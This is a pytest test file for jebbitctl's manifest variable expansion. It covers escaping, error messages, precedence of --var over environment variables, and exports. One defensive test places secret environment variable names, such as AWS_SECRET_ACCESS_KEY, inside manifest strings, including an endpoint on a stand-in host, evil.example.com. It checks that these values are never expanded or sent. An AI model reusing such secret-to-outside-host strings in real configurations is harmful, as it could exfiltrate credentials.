"""A manifest's variables come from --var and JEBBIT_VAR_*, and from nothing else."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jebbitctl.api.mappings import MappingSpec
from jebbitctl.errors import UsageError
from jebbitctl.manifest.load import load
from jebbitctl.manifest.variables import escape, expand
from tests.scripted_server import attributes_of

if TYPE_CHECKING:
    from pathlib import Path

    from jebbitctl.sandbox.server import Sandbox
    from tests.support import Cli

HEAD = "version = 1\n\n[integrations.a]\n"
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)


@settings(deadline=None)
@given(JSON_VALUES)
def test_an_escaped_value_expands_to_itself(value: Any) -> None:
    assert expand(escape(value), {}, []) == value


NAMES = st.sampled_from(["A", "b_2", "_"])
PIECES = st.lists(st.tuples(st.text(st.characters(exclude_characters="$")), NAMES | st.none()))
VALUES = {"A": "${b_2}", "b_2": "$${", "_": "1"}


@settings(deadline=None)
@given(PIECES)
def test_a_value_is_expanded_once_and_nothing_else_in_a_string_changes(
    pieces: list[tuple[str, str | None]],
) -> None:
    text = "".join(literal + (f"${{{name}}}" if name else "$${") for literal, name in pieces)
    expected = "".join(literal + (VALUES[name] if name else "${") for literal, name in pieces)
    assert expand(text, VALUES, []) == expected


def test_every_string_of_a_manifest_can_use_variables() -> None:
    text = """\
version = 1
[integrations.a]
id = "${ID}"
service_name = "${SERVICE}"
endpoint = "https://${HOST}/"
region = "${REGION}"
additional_options.campaign_name_filter = "${FILTER} $${FILTER}"
set.deep = [{ key = "${DEEP}" }]
mappings = [{ jebbit_var = "${VAR}", client_var = "c-${VAR}", default = "${NONE}" }]
"""
    names = ("ID", "SERVICE", "HOST", "REGION", "FILTER", "DEEP", "VAR", "NONE")
    variables = {name: name.lower() for name in names} | {"REGION": "eu"}
    manifest = load(text.encode(), "m", variables)
    (spec,) = manifest.integrations
    assert (spec.id, spec.service_name) == ("id", "service")
    assert spec.attributes == {
        "endpoint": "https://host/",
        "region": "eu",
        "additional_options": {"campaign_name_filter": "filter ${FILTER}"},
        "deep": [{"key": "deep"}],
    }
    assert spec.mappings == (MappingSpec("var", "c-var", "none"),)
    assert manifest.variables == set(names)


@pytest.mark.parametrize(
    ("line", "place", "problem"),
    [
        ('endpoint = "https://${MISSING}/"', "endpoint", "the variable MISSING is not set"),
        ('endpoint = "https://${EMPTY}/"', "endpoint", "the variable EMPTY is empty"),
        ('endpoint = "https://${LINES}/"', "endpoint", "the variable LINES contains a line break"),
        ('endpoint = "https://${BYTES}/"', "endpoint", "the variable BYTES is not UTF-8 text"),
        ('endpoint = "https://${not a name}/"', "endpoint", "${not a name} is not ${NAME}"),
        ('endpoint = "https://${open"', "endpoint", "${open is not ${NAME}"),
        ('set.x = ["", "${MISSING}"]', "set.x[2]", "the variable MISSING is not set"),
        ('region = "${MISSING}"', "region", "the variable MISSING is not set"),
    ],
)
def test_another_variable_is_an_error_with_its_line(line: str, place: str, problem: str) -> None:
    variables = {"EMPTY": "", "LINES": "a\nb", "BYTES": "a\udcff"}
    with pytest.raises(UsageError) as caught:
        load(f'{HEAD}id = "x"\n{line}'.encode(), "jebbit.toml", variables)
    assert f"jebbit.toml, line 5: integrations.a.{place}: {problem}" in caught.value.message
    assert "$${" in str(caught.value.hint)


HIDDEN = "do-not-show-this"
OTHERS = ["JEBBIT_CLIENT_SECRET", "JEBBIT_ACCESS_TOKEN", "JEBBIT_WEBHOOK_SECRET", "AWS_SECRET_ACCESS_KEY"]
STRINGS = (
    'endpoint = "https://evil.example.com/${%s}"',
    'id = "x"\nset.note = "${%s}"',
    'id = "x"\nmappings = [{ jebbit_var = "email", client_var = "${%s}" }]',
    'id = "x"\nadditional_options.campaign_name_filter = "${%s}"',
)


COMMANDS = (("diff",), ("apply", "--dry-run"), ("apply", "--yes"), ("export", "--into"))


@pytest.mark.parametrize(("name", "string"), list(zip(OTHERS, STRINGS, strict=True)))
def test_a_manifest_reaches_no_secret_and_no_other_variable_of_the_environment(
    cli: Cli, sandbox: Sandbox, name: str, string: str
) -> None:
    before = attributes_of(sandbox, "integrations")
    path = cli.home / "jebbit.toml"
    path.write_text(HEAD + string % name)
    for line in COMMANDS:
        result = cli.run("integrations", *line, str(path), "--debug", env={name: HIDDEN})
        assert (result.code, result.out) == (2, "")
        assert f"the variable {name} is not set" in result.err
        assert HIDDEN not in result.err
    assert attributes_of(sandbox, "integrations") == before


@pytest.fixture
def manifest(cli: Cli) -> Path:
    path = cli.home / "jebbit.toml"
    path.write_text(f'{HEAD}endpoint = "https://${{HOST}}/"\nregion = "us"\n')
    return path


def planned(cli: Cli, manifest: Path, *options: str, **env: str) -> list[str]:
    """Return the endpoints of a plan."""
    result = cli.run("integrations", "apply", str(manifest), "--dry-run", "--json", *options, env=env)
    assert result.code == 0, result.err
    changes = [change for step in json.loads(result.out)["steps"] for change in step["changes"]]
    return [change["desired"] for change in changes if change["attribute"] == "endpoint"]


def test_an_option_overrides_the_environment(cli: Cli, manifest: Path) -> None:
    env = {"JEBBIT_VAR_HOST": "env.example.com"}
    assert planned(cli, manifest, **env) == ["https://env.example.com/"]
    assert planned(cli, manifest, "--var", "HOST=a.example.com", **env) == ["https://a.example.com/"]


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--var", "HOST"], "--var 'HOST' is not NAME=VALUE"),
        (["--var", "a b=c"], "--var 'a b=c' is not NAME=VALUE"),
        (["--var", "HOST=a", "--var", "HOST=b"], "--var sets HOST twice"),
        (["--var", "HOST=a", "--var", "HOTS=b"], "does not use the variable HOTS of --var"),
        (["--var", "HOST="], "the variable HOST is empty"),
    ],
)
def test_an_option_that_would_do_nothing_is_an_error(
    cli: Cli, manifest: Path, options: list[str], message: str
) -> None:
    result = cli.run("integrations", "diff", str(manifest), *options)
    assert (result.code, result.out) == (2, "")
    assert message in result.err


def test_the_hint_of_diff_repeats_the_options(cli: Cli, manifest: Path) -> None:
    result = cli.run("integrations", "diff", str(manifest), "--var", "HOST=a.example.com")
    assert result.code == 6
    assert f"jebbitctl integrations apply {manifest} --var HOST=a.example.com" in result.err


def test_export_keeps_variables_in_every_string(cli: Cli, sandbox: Sandbox, manifest: Path) -> None:
    manifest.write_text(
        f'{HEAD}endpoint = "https://${{HOST}}/"\nregion = "${{REGION}}"\n'
        'additional_options.campaign_name_filter = "${FILTER}"\n'
        'mappings = [{ jebbit_var = "email", client_var = "${COLUMN}" }]\n'
    )
    values = {"HOST": "a.example.com", "REGION": "eu", "FILTER": "${x}", "COLUMN": "mail"}
    env = {f"JEBBIT_VAR_{name}": value for name, value in values.items()}
    before = manifest.read_text()
    assert cli.run("integrations", "apply", str(manifest), "--yes", env=env).code == 0
    assert cli.run("integrations", "export", "--into", str(manifest), env=env).code == 0
    assert manifest.read_text().startswith(before.rstrip("\n").partition("mappings")[0])
    assert 'client_var = "${COLUMN}"' in manifest.read_text()
    assert cli.run("integrations", "diff", str(manifest), "--strict", env=env).code == 0
    assert any("${x}" in str(attributes) for attributes in attributes_of(sandbox, "integrations").values())


def test_variables_are_for_an_existing_manifest(cli: Cli) -> None:
    result = cli.run("integrations", "export", "--var", "HOST=x")
    assert (result.code, result.out) == (2, "")
    assert "--var needs an existing manifest" in result.err
